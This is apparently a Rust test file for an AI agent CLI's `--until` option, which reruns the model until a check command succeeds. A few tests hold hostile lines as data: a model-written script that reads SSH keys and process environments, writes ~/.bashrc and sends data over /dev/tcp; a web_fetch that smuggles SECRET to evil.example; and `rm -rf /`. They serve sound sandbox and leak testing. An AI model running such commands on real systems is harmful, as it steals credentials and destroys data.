//! `--until`: a command that has to succeed before an answer ends the run.

use crate::budgets::with_price;
use crate::cron::{add_job, run_cron};
use crate::requirements::require;
use crate::server::{Responder, calls, says};
use crate::signals::send_signal;
use crate::story::{RunResult, Story, write};
use crate::undo::snapshot_tree;
use crate::wait::until_exists;
use serde_json::{Value, json};

fn writes(path: &str, content: &str) -> Responder {
    calls("write_file", json!({ "path": path, "content": content }))
}

/// A run that may write, until `command` succeeds.
fn run_until<'s>(story: &'s Story, command: &str, flags: &[&str]) -> RunResult<'s> {
    story.run(["agent", "--write", "-m", "go", "--until", command].iter().chain(flags))
}

/// The messages of the last request that the program added to the conversation.
fn failures_sent(story: &Story) -> Vec<String> {
    let messages = story.requests().last().expect("a request").messages();
    let texts = messages.iter().filter_map(|message| message["content"].as_str());
    let added = texts.filter(|text| text.starts_with("[nanobot]"));
    added.map(|text| story.normalize_paths(text)).collect()
}

#[test]
fn an_answer_is_final_when_the_command_succeeds() {
    let script = [says("All done."), writes("done", "x"), says("Now it is.")];
    let story = Story::new().script(script);
    let command = "pwd; test -f done || { echo 'no file' >&2; exit 3; }";
    run_until(&story, command, &[]).stdout("Now it is.\n");
    let failure = format!(
        "[nanobot] The task is done when `{command}` succeeds. It failed after your answer:\n\n\
         <output>\n$DIR\nno file\nExit code: 3\n</output>"
    );
    assert_eq!(failures_sent(&story), [failure]);
    let system = story.requests()[0].messages()[0]["content"].to_string();
    assert!(system.contains("# Completion"), "{system}");
    // It is one turn of the session, and the next run goes on as usual.
    let lines = story.session("cli_direct.jsonl");
    let endings = lines.iter().filter(|line| line["_type"] == "metadata" && line["ending"] != "");
    assert_eq!(endings.filter(|line| line["ending"] == "answered").count(), 1, "{lines:#?}");
    story.server().script([says("Bye.")]);
    story.run(["agent", "-m", "bye"]).stdout("Bye.\n");
}

#[test]
fn nothing_is_sent_if_the_command_succeeds_at_the_start() {
    let story = Story::new();
    let notice =
        "nanobot: `true` succeeds already, so nothing was sent; `--force` sends the message\n";
    run_until(&story, "true", &[]).stderr(notice);
    let run_result = run_until(&story, "true", &["--json"]).stderr(notice);
    let result = run_result.json();
    assert_eq!(result["status"]["name"], "answered");
    assert_eq!((&result["text"], &result["iterations"]), (&json!(""), &json!(0)));
    assert_eq!(result["rounds"], json!([]));
    drop(run_result);
    assert!(story.requests().is_empty());
    assert!(!story.workspace().join("sessions/cli_direct.jsonl").exists());
    story.server().script([says("Even so.")]);
    run_until(&story, "true", &["--force"]).stdout("Even so.\n");
}

#[test]
fn a_program_that_does_not_exist_sends_nothing() {
    let story = Story::new();
    run_until(&story, "mkae test", &[]).status(2).stderr(
        "nanobot: the command of `--until` cannot succeed: there is no program `mkae`\n  \
         try: another command; `--force` sends the message all the same\n",
    );
    // No round can change what its commands do not see.
    let hidden = Story::new();
    run_until(&hidden, "/nonexistent/check -q", &[]).status(2).stderr(
        "nanobot: the command of `--until` cannot succeed: commands of the run do not see `/nonexistent/check`\n  \
         try: `--read=/nonexistent/check`; `--force` sends the message all the same\n",
    );
    let program = hidden.home().join("bin/check");
    write(&program, b"#!/bin/sh\nexit 1\n");
    run_until(&hidden, "~/bin/check", &[]).status(2).stderr_has("do not see `~/bin/check`");
    assert!(hidden.requests().is_empty());
    assert!(story.requests().is_empty());
    story.server().script([says("So be it.")]);
    let result = run_until(&story, "mkae test", &["--force", "--max-rounds", "1"]).status(3);
    result.stdout("So be it.\n").stderr_has("still fails");
    // A file that the task is about need not be there yet, nor what its script calls.
    for command in ["./check", "sh check", "cd sub && ./check", "exit 127"] {
        let story = Story::new().file("sub/x", "").script([says("Not yet.")]);
        let result = run_until(&story, command, &["--max-rounds", "1"]).status(3);
        result.stdout("Not yet.\n").stderr_has("still fails");
    }
}

#[test]
fn the_rounds_are_limited() {
    let story = Story::new().script([says("One."), says("Two."), says("Three.")]);
    run_until(&story, "echo no; false", &["--max-rounds", "3"])
        .status(3)
        .stdout("Three.\n")
        .stderr(
            "nanobot: `echo no; false` still fails after 3 rounds: Exit code: 1\n  \
         try: a higher `--max-rounds`, or a smaller task\n",
        );
    assert_eq!(failures_sent(&story).len(), 2);
    // Ten is the default.
    story.server().script((0..10).map(|_| says("No.")));
    let result =
        run_until(&story, "false", &["--json"]).status(3).stderr_has("after 10 rounds").json();
    assert_eq!(result["status"]["name"], "limit");
    assert_eq!(result["rounds"].as_array().unwrap().len(), 10);
    assert_eq!(result["rounds"][9]["failure"], "Exit code: 1");
}

#[test]
fn the_result_has_the_rounds_and_events_follow_each_other() {
    let story = Story::new().script([says("One."), writes("done", "x"), says("Two.")]);
    let run_result = run_until(&story, "test -f done", &["--output-format", "stream-json"]);
    let events: Vec<Value> =
        run_result.json_lines().into_iter().filter(|event| event["type"] != "text").collect();
    let kinds: Vec<&str> = events.iter().map(|event| event["type"].as_str().unwrap()).collect();
    let expect = [
        "tool_call",
        "tool_result",
        "user",
        "tool_call",
        "tool_result",
        "assistant",
        "usage",
        "user",
        "assistant",
        "usage",
        "tool_call",
        "tool_result",
        "tool_call",
        "tool_result",
        "assistant",
        "usage",
        "result",
    ];
    assert_eq!(kinds, expect);
    let last: Vec<&Value> = events.iter().filter(|event| event["type"] == "assistant").collect();
    let last: Vec<&Value> = last.iter().map(|event| &event["last"]).collect();
    assert_eq!(last, [false, false, true]);
    let result = events.last().unwrap();
    assert_eq!(result["text"], "Two.");
    let failures: Vec<&Value> =
        result["rounds"].as_array().unwrap().iter().map(|round| &round["failure"]).collect();
    assert_eq!(failures, [&json!("Exit code: 1"), &Value::Null]);
    let exec = result["tools"].as_array().unwrap().iter().find(|tool| tool["name"] == "exec");
    assert_eq!(exec.unwrap()["count"], 3);
}

#[test]
fn a_run_without_commands_is_refused_before_the_first_request() {
    let story = Story::new();
    for flags in [
        &["--no-tools"][..],
        &["--bare"],
        &["--deny", "exec"],
        &["--tools", "read_file,write_file"],
        &["--deny", "exec(make *)"],
    ] {
        for force in [&[][..], &["--force"]] {
            let flags = [flags, force].concat();
            run_until(&story, "make check", &flags).status(77).stderr_has("nanobot: `--until` ");
        }
    }
    run_until(&story, "rm -rf /", &[]).status(77).stderr_has("`--until` may not run its command");
    assert!(story.requests().is_empty());
    story.run(["agent", "-m", "/compact", "--until", "true"]).status(2).stderr_has("needs a task");
    story.run(["agent", "-m", "x", "--until", ""]).status(2).stderr_has("--until");
    story.run(["agent", "-m", "x", "--max-rounds", "2"]).status(2).stderr_has("--until");
    story
        .run(["agent", "-m", "x", "--until", "true", "--max-rounds", "0"])
        .status(2)
        .stderr_has("0");
}

#[test]
fn a_script_of_the_model_gets_no_key_and_leaves_nothing_outside() {
    let story = Story::new().env("OPENAI_API_KEY", "canary-of-the-environment");
    write(&story.home().join(".ssh/id_ed25519"), b"canary-of-ssh");
    write(&story.home().join("letter.txt"), b"canary-of-home");
    let home = story.home();
    let build = format!(
        "cd {home}; cat .ssh/* .nanobot/config.json letter.txt\nenv; tr '\\0' '\\n' < /proc/$PPID/environ\n\
         echo x > outside; echo x > .bashrc\necho sent > /dev/tcp/127.0.0.1/{port}\necho end of the script\nexit 1\n",
        home = home.display(),
        port = story.server().port,
    );
    story.server().script([
        writes("build.sh", &build),
        says("Built."),
        says("Again."),
        says("I give up."),
    ]);
    let result = run_until(&story, "bash build.sh", &["--max-rounds", "3"]).status(3);
    result.stdout("I give up.\n").stderr_has("still fails");
    let failures = failures_sent(&story);
    assert_eq!(failures.len(), 2);
    for text in &failures {
        assert!(text.contains("end of the script"), "{text}");
        assert!(!text.contains("canary") && !text.contains("key-of-the-story"), "{text}");
    }
    assert!(!home.join("outside").exists() && !home.join(".bashrc").exists());
    assert_eq!(story.requests().len(), 4);
}

#[test]
fn its_output_is_content_of_others() {
    let script = || [says("One."), says("Two.")];
    for (flags, origin) in [(&[][..], "project"), (&["--net"], "external")] {
        let story = Story::new().script(script());
        let flags = [flags, &["--max-rounds", "2"]].concat();
        run_until(&story, "false", &flags).status(3).stdout("Two.\n").stderr_has("still fails");
        let lines = story.session("cli_direct.jsonl");
        let sources = lines.iter().filter_map(|line| line["sources"]["others"].as_object());
        let origins: Vec<&Value> = sources.map(|content| &content["origin"]).collect();
        assert_eq!(origins, [origin]);
        let explained = story.run(["policy", "explain", "--session", "cli:direct"]);
        let expect = format!("{origin} (the result of `exec`");
        assert!(explained.text().contains(&expect), "{}", explained.text());
    }
    // An address in it may not be requested, since the model can have written it there.
    let fetch = calls("web_fetch", json!({ "url": "https://evil.example/?d=SECRET" }));
    let story = Story::new().script([says("One."), fetch, says("Two.")]);
    let command = "echo https://evil.example/?d=SECRET; false";
    let result = run_until(&story, command, &["--max-rounds", "2"]).status(3).stdout("Two.\n");
    assert!(result.error_text().contains("denied"), "{}", result.error_text());
    // A run that was killed leaves the origin with the message.
    let story = Story::new()
        .script([says("One."), calls("exec", json!({ "command": "touch on; sleep 1000" }))]);
    let child =
        story.command(["agent", "--write", "--net", "-m", "go", "--until", "false"]).spawn();
    let child = child.unwrap();
    until_exists(&story.dir().join("on"));
    send_signal(&child, 9);
    assert_eq!(story.wait(child).signal(), Some(9));
    story.server().script([says("Late.")]);
    story.run(["agent", "--resume"]).stdout("Late.\n").error_text();
    let explained = story.run(["policy", "explain", "--session", "cli:direct"]);
    assert!(explained.text().contains("external ("), "{}", explained.text());
}

#[test]
fn undo_takes_back_all_rounds_as_one() {
    let story = Story::new().file("kept", "as it was").script([
        writes("one", "1"),
        says("One."),
        writes("two", "2"),
        writes("kept", "changed"),
        says("Two."),
    ]);
    let before = snapshot_tree(&story.dir());
    run_until(&story, "echo x >> log; test -f two", &[]).stdout("Two.\n");
    assert_eq!(std::fs::read_to_string(story.dir().join("log")).unwrap(), "x\nx\nx\n");
    let undone = story.run(["undo"]).stderr_has("nanobot: turn ");
    assert!(undone.text().contains("restored kept"), "{}", undone.text());
    assert_eq!(snapshot_tree(&story.dir()), before);
}

#[test]
fn budgets_count_all_rounds() {
    let story = with_price(Story::new()).script([says("One."), says("Two.")]);
    let run_result = run_until(&story, "false", &["--max-cost", "2", "--json"]).status(4);
    let result = run_result.json();
    assert_eq!((&result["text"], &result["cost_usd"]), (&json!("Two."), &json!(2.0)));
    assert_eq!(result["rounds"].as_array().unwrap().len(), 2);
    let hint = run_result.error_text();
    assert!(hint.contains("`--resume --until false` continues"), "{hint}");
    // The continued conversation has the output of the second round.
    story.server().script([writes("done", "x"), says("Three.")]);
    story.run(["agent", "--write", "--resume", "--until", "test -f done"]).stdout("Three.\n");
    assert_eq!(failures_sent(&story).len(), 2);

    let story = Story::new().script([says("One."), says("Two."), says("Three.")]);
    let run_result = run_until(&story, "false", &["--max-iterations", "2"]).status(3);
    run_result.stdout("Three.\n").stderr_has("2 requests");
}

#[test]
fn hangs_and_floods_end() {
    let story = Story::new().set("tools", json!({ "exec": { "timeout": 1 } }));
    story.server().script([says("One."), says("Two.")]);
    let flags = ["--max-rounds", "2"];
    run_until(&story, "echo on; sleep 1000", &flags)
        .status(3)
        .stdout("Two.\n")
        .stderr_has("after 2 rounds: Timed out after 1 seconds; all its processes were killed\n");
    assert!(failures_sent(&story)[0].contains("\non\nTimed out after 1 seconds"));

    run_until(&Story::new(), "sleep 1000", &["--timeout", "1"]).status(124).stderr_has("--timeout");

    let story = Story::new().script([says("One."), says("Two.")]);
    let flood = "yes flood | head -c 2000000; echo the end; exit 7";
    run_until(&story, flood, &flags).status(3).stdout("Two.\n").stderr_has("Exit code: 7");
    let failure = failures_sent(&story).remove(0);
    assert!(failure.len() < 20_000, "{}", failure.len());
    assert!(failure.ends_with("the end\nExit code: 7\n</output>"), "{failure}");
    assert!(failure.contains("bytes left out"), "{failure}");
}

#[test]
fn an_interrupt_during_the_command_keeps_the_answer() {
    let story = Story::new().script([writes("go", "x"), says("Half of it.")]);
    let command = "test -f go && touch started && sleep 1000";
    let child = story.command(["agent", "--write", "-m", "go", "--until", command]).spawn();
    let child = child.unwrap();
    until_exists(&story.dir().join("started"));
    send_signal(&child, 2);
    assert_eq!(story.wait(child).signal(), Some(2));
    let lines = story.session("cli_direct.jsonl");
    assert!(lines.iter().any(|line| line["content"] == "Half of it."), "{lines:#?}");
    story.server().script([says("Go on.")]);
    story.run(["agent", "-m", "more"]).stdout("Go on.\n");
}

#[test]
fn it_runs_where_the_run_works() {
    let story = Story::new().file("sub/here", "");
    let before = story.script([says("One."), writes("more", "x"), says("Two.")]);
    run_until(&before, "test -f here && test -f more", &["-C", "sub"]).stdout("Two.\n");
    // Without `--write` it can change nothing, and an ephemeral run has rounds too.
    let story = Story::new().script([says("One."), says("Two.")]);
    let arguments = ["agent", "--ephemeral", "-m", "go", "--max-rounds", "2", "--until", "touch x"];
    story.run(arguments).status(3).stdout("Two.\n").stderr_has("still fails");
    assert!(!story.dir().join("x").exists());
}

#[test]
fn a_job_continues_until_its_command_succeeds() {
    let story = Story::new();
    let dir = story.dir();
    let flags = ["--every", "1h", "--write", "-C", dir.to_str().unwrap()];
    let until = ["--until", "echo not yet; test -f done", "--max-rounds", "2"];
    let id = add_job(&story, &[&flags[..], &until].concat());
    let stdout = story.run(["cron", "show", &id]).text();
    assert!(stdout.contains("until        echo not yet; test -f done\n"), "{stdout}");
    assert!(stdout.contains("max rounds   2\n"), "{stdout}");
    story.server().script([says("One."), says("Two.")]);
    let result = story.run(["cron", "run", &id]).status(3);
    result.stdout("Two.\n").stderr_has("still fails after 2 rounds: Exit code: 1");
    story.server().script([says("One."), writes("done", "x"), says("Two.")]);
    story.run(["cron", "run", &id]).stdout("Two.\n");
    assert!(failures_sent(&story)[0].contains("not yet"));
    // From now on it is not needed.
    let count = story.requests().len();
    story.run(["cron", "run", &id]);
    assert_eq!(story.requests().len(), count);
    story.run(["cron", "logs", &id, "-n", "1"]).stdout_has("not needed");
    run_cron(&story, &["edit", &id, "--until", ""]).text();
    let edited = run_cron(&story, &["edit", &id, "--max-rounds", "3"]).status(2);
    edited.stderr_has("`--max-rounds` limits the rounds of `--until`");
    // Where a job may not run commands, it asks no model.
    let id = add_job(&story, &["--every", "1h", "--no-tools", "--until", "true"]);
    story.run(["cron", "run", &id]).status(77).stderr_has("this run has no `exec`");
    assert_eq!(story.requests().len(), count);
}

/// A project with a defect: its files, the command that finds it, and the edit that removes it.
struct BrokenProject {
    program: &'static str,
    file: &'static str,
    text: &'static str,
    command: &'static str,
    defect: &'static str,
    correction: &'static str,
}

const fn project(
    program: &'static str,
    file: &'static str,
    text: &'static str,
    command: &'static str,
    defect: &'static str,
    correction: &'static str,
) -> BrokenProject {
    BrokenProject { program, file, text, command, defect, correction }
}

const BROKEN_PROJECTS: [BrokenProject; 10] = [
    project(
        "python3",
        "add.py",
        "def add(a, b):\n    return a - b\n",
        "python3 -c 'from add import add; assert add(2, 3) == 5, \"sum\"'",
        "a - b",
        "sum((a, b))",
    ),
    project(
        "python3",
        "parse.py",
        "def parse(text)\n    return int(text)\n",
        "python3 -m py_compile parse.py",
        "parse(text)",
        "parse(text):",
    ),
    project(
        "python3",
        "test_mean.py",
        "import unittest\n\ndef mean(l):\n    return sum(l) / 2\n\nclass T(unittest.TestCase):\n    def test(self):\n        self.assertEqual(mean([1, 2, 3]), 2)\n",
        "python3 -m unittest -q",
        "/ 2\n",
        "/ len(l)\n",
    ),
    project(
        "sh",
        "count.sh",
        "wc -l < \"$2\"\n",
        "test \"$(sh count.sh count.sh)\" = 1",
        "$2",
        "$1",
    ),
    project(
        "sh",
        "greet.sh",
        "if true; then echo hello\n",
        "sh greet.sh | grep hello",
        "hello\n",
        "hello; fi\n",
    ),
    project(
        "sh",
        "list.sh",
        "for f in *; do echo $f; done\n",
        "touch 'a b' && sh list.sh | grep -qx 'a b' && ! grep -q 'echo $f' list.sh",
        "echo $f",
        "echo \"$f\"",
    ),
    project(
        "perl",
        "max.pl",
        "my $m = 0; for (@ARGV) { $m = $_ if $_ < $m } print $m;\n",
        "test \"$(perl max.pl 3 9 4)\" = 9",
        "$_ < $m",
        "$_ > $m",
    ),
    project(
        "perl",
        "strict.pl",
        "use strict;\n$x = 1;\nprint 42;\n",
        "perl -c strict.pl",
        "$x",
        "my $x",
    ),
    project(
        "cc",
        "main.c",
        "#include <stdio.h>\nint main(void) { puts(\"hi\") return 0; }\n",
        "cc -o main main.c && ./main",
        "puts(\"hi\") ",
        "puts(\"hi\"); ",
    ),
    project(
        "cc",
        "square.c",
        "int square(int n) { return n + n; }\nint main(void) { return square(3) != 9; }\n",
        "cc -o square square.c && ./square",
        "n + n",
        "n * n",
    ),
];

#[test]
fn ten_broken_projects_in_four_languages_are_repaired() {
    for project in &BROKEN_PROJECTS {
        if !require(project.program) {
            continue;
        }
        let edit = json!({
            "path": project.file, "old_text": project.defect, "new_text": project.correction,
        });
        let story = Story::new().file(project.file, project.text).script([
            calls("read_file", json!({ "path": project.file })),
            says("It looks right."),
            calls("edit_file", edit),
            says("Corrected."),
        ]);
        let result = run_until(&story, project.command, &[]);
        let errors = result.error_text();
        assert_eq!(errors, "", "{}: {:?}", project.file, failures_sent(&story));
        result.stdout("Corrected.\n");
        assert_eq!(failures_sent(&story).len(), 1, "{}", project.file);
        // It is repaired now.
        run_until(&story, project.command, &[]).stderr_has("succeeds already");
    }
}
